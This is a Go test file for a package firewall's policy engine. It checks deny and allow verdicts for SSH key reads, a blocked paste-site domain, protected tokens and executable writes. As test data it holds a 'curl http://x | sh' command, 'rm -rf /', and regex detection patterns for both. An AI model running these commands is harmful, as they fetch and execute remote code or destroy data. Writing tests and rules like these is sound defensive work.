package policy

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/ossguard/nodefw/access"
	"github.com/ossguard/nodefw/config"
	"github.com/ossguard/nodefw/trust"
)

func baseConfig(t *testing.T) config.Config {
	t.Helper()
	cfg := config.DefaultConfig()
	cfg.Filesystem.BlockedReadPaths = []string{}
	cfg.Network.BlockedDomains = []string{}
	cfg.Commands.BlockedPatterns = nil
	return cfg
}

// S1: blocked read path, no caller -> DENY blocked_read high.
func TestScenarioS1BlockedRead(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Filesystem.BlockedReadPaths = []string{"/.ssh/"}

	req := access.New(access.FSRead, "/home/u/.ssh/id_rsa", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonBlockedRead, v.Reason)
	require.Equal(t, access.SeverityHigh, v.Severity)
}

// S2: same config plus a per-module exception covering the path -> ALLOW exception.
func TestScenarioS2Exception(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Filesystem.BlockedReadPaths = []string{"/.ssh/"}
	cfg.Exceptions.Modules["ok-pkg"] = config.ModuleException{AllowFilesystem: []string{"/home/u/.ssh/"}}

	req := access.New(access.FSRead, "/home/u/.ssh/id_rsa", "ok-pkg")
	resolver := trust.New(cfg)
	decision := resolver.Resolve("ok-pkg", "")

	v := Decide(req, cfg, decision)
	require.Equal(t, access.Allow, v.Decision)
	require.Equal(t, access.ReasonException, v.Reason)
}

// S3: blocked domain -> DENY blocked_domain high.
func TestScenarioS3BlockedDomain(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Network.BlockedDomains = []string{"pastebin.com"}

	req := access.New(access.NetConnect, "pastebin.com:443", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonBlockedDomain, v.Reason)
	require.Equal(t, access.SeverityHigh, v.Severity)
}

// S4: blocked command pattern, non-interactive -> DENY blocked_command critical.
func TestScenarioS4BlockedCommand(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Commands.BlockedPatterns = []config.BlockedCommandPattern{
		{Regex: `curl.*\|.*sh`, Severity: "critical", Description: "Pipe to shell"},
	}

	req := access.New(access.CmdExec, "curl http://x | sh", "")
	req.Observation.Interactive = false

	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonBlockedCommand, v.Reason)
	require.Equal(t, access.SeverityCritical, v.Severity)
}

// S5: strict mode containment.
func TestScenarioS5StrictMode(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Mode.StrictMode = true
	cfg.Filesystem.AllowedPaths = []string{"/tmp/"}

	unknown := access.New(access.FSRead, "/unknown/path", "")
	v := Decide(unknown, cfg, trust.Decision{})
	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonStrictModeNotAllowed, v.Reason)

	safe := access.New(access.FSRead, "/tmp/safe", "")
	v2 := Decide(safe, cfg, trust.Decision{})
	require.Equal(t, access.Allow, v2.Decision)
}

// S6: executable-by-shebang write is denied regardless of extension rules.
func TestScenarioS6ExecutableByContent(t *testing.T) {
	cfg := baseConfig(t)

	req := access.New(access.FSWrite, "/project/install.sh", "")
	req.Payload = []byte("#!/bin/sh\necho")

	v := Decide(req, cfg, trust.Decision{})
	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonExecutableFileBlocked, v.Reason)
	require.Equal(t, access.SeverityCritical, v.Severity)
}

// S7: trusted caller never bypasses a protected environment variable
// unless allowTrustedModulesAccess is set.
func TestScenarioS7TrustDoesNotLeakEnv(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Environment.ProtectedVariables = []string{"GITHUB_TOKEN"}
	cfg.Environment.AllowTrustedModulesAccess = false
	cfg.TrustedModules = []config.TrustedModuleEntry{{ID: "trusted-pkg"}}

	req := access.New(access.EnvGet, "GITHUB_TOKEN", "trusted-pkg")
	resolver := trust.New(cfg)
	decision := resolver.Resolve("trusted-pkg", "")
	require.True(t, decision.Trusted)

	v := Decide(req, cfg, decision)
	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonProtectedVariable, v.Reason)
}

func TestDisabledIsTransparent(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Mode.Enabled = false
	cfg.Filesystem.BlockedReadPaths = []string{"/.ssh/"}

	req := access.New(access.FSRead, "/home/u/.ssh/id_rsa", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Allow, v.Decision)
	require.Equal(t, access.ReasonDisabled, v.Reason)
}

func TestAlertOnlyDowngradesDenyToWarn(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Filesystem.BlockedReadPaths = []string{"/.ssh/"}
	cfg.Mode.AlertOnly = true

	req := access.New(access.FSRead, "/home/u/.ssh/id_rsa", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Warn, v.Decision)
	require.Equal(t, access.ReasonBlockedRead, v.Reason)
	require.Equal(t, access.SeverityHigh, v.Severity)
}

func TestExceptionLocality(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Filesystem.BlockedReadPaths = []string{"/.ssh/"}
	cfg.Exceptions.Modules["ok-pkg"] = config.ModuleException{AllowFilesystem: []string{"/home/u/.ssh/"}}

	req := access.New(access.FSRead, "/home/u/.ssh/id_rsa", "other-pkg")
	resolver := trust.New(cfg)
	decision := resolver.Resolve("other-pkg", "")

	v := Decide(req, cfg, decision)
	require.Equal(t, access.Deny, v.Decision)
	require.Equal(t, access.ReasonBlockedRead, v.Reason)
}

func TestTrustBypassNeverCoversCommands(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Commands.BlockedPatterns = []config.BlockedCommandPattern{
		{Regex: `rm -rf /`, Severity: "critical", Description: "Recursive delete"},
	}
	cfg.TrustedModules = []config.TrustedModuleEntry{{ID: "trusted-pkg"}}

	req := access.New(access.CmdExec, "rm -rf /", "trusted-pkg")
	req.Observation.Interactive = false

	resolver := trust.New(cfg)
	decision := resolver.Resolve("trusted-pkg", "")

	v := Decide(req, cfg, decision)
	require.Equal(t, access.Deny, v.Decision)
}

func TestBuildToolEscapeHatch(t *testing.T) {
	cfg := baseConfig(t)
	cfg.Commands.BlockedPatterns = []config.BlockedCommandPattern{
		{Regex: `.*`, Severity: "critical", Description: "match everything"},
	}

	req := access.New(access.CmdExec, "make build", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Allow, v.Decision)
	require.Equal(t, access.ReasonBuildTool, v.Reason)
}

func TestDefaultAllowPassed(t *testing.T) {
	cfg := baseConfig(t)
	req := access.New(access.FSRead, "/tmp/whatever", "")
	v := Decide(req, cfg, trust.Decision{})

	require.Equal(t, access.Allow, v.Decision)
	require.Equal(t, access.ReasonPassed, v.Reason)
}
